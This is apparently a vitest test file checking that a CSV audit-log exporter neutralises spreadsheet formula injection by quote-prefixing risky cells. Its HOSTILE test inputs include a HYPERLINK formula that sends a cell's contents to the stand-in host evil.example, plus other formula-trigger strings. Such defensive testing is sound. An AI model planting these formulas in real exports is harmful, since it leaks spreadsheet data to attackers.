import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createLogger } from '@gatehouse/runtime';
import type { Job } from 'bullmq';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { CSV_COLUMNS, type ExportData, exportFile, exportProcessor } from '../src/jobs/export.worker.js';
import { createEnv, type Env, fullEvent, storeDirect } from './helpers.js';

let env: Env;
let dir: string;
beforeAll(async () => {
  env = await createEnv();
  dir = await mkdtemp(join(tmpdir(), 'gatehouse-csv-'));
});
afterAll(async () => {
  await env?.close();
  await rm(dir, { recursive: true, force: true });
});

/** RFC 4180 cells of a CSV text (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    rows.at(-1)?.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ',') endCell();
    else if (!quoted && c === '\n') {
      endCell();
      rows.push([]);
    } else cell += c;
  }
  return rows.filter((r) => r.length > 0);
}

const ID = randomUUID();
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)', '+1+1', '-2+3', '\tcmd', '\rcmd'];

it('neutralises every CSV cell that a spreadsheet would run as a formula, and the file says so', async () => {
  await storeDirect(
    env.pool,
    HOSTILE.map((evil) => fullEvent({ type: 'auth.login.failed', username: evil, userAgent: evil, reason: null })),
  );
  // The export covers the trail up to the head when it was requested (and checks its read pool has it).
  const head = await env.pool.query<{ n: number }>('SELECT coalesce(max(seq), 0)::int AS n FROM audit_events');
  const throughSeq = head.rows[0]?.n ?? 0;
  const job = { id: ID, data: { exportId: ID, format: 'csv', filters: {}, throughSeq } };
  const run = exportProcessor({
    pool: env.pool,
    readPool: env.pool,
    logger: createLogger({ service: 't', level: 'silent', format: 'json' }),
    dir,
  });
  await run({ ...job, attemptsMade: 0, opts: {}, updateProgress: async () => undefined } as unknown as Job<ExportData>);

  const [header, ...rows] = parseCsv(await readFile(exportFile(dir, ID, 'csv'), 'utf8'));
  // Derived from AUTH_EVENT_FIELDS; spelled out here so a change to that list's order shows as a format change.
  expect(header?.join(',')).toBe(
    'seq,id,type,version,occurredAt,storedAt,source,subject,username,sessionId,ip,userAgent,reason,traceparent,extra,hash',
  );
  const column = (name: (typeof CSV_COLUMNS)[number]) => rows.map((r) => r[CSV_COLUMNS.indexOf(name)]);
  const expected = HOSTILE.map((evil) => `'${evil}`).reverse();
  expect(column('username')).toEqual(expected);
  expect(column('userAgent')).toEqual(expected);
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]/);
  expect(column('seq').every((seq) => /^\d+$/.test(seq ?? ''))).toBe(true);
});
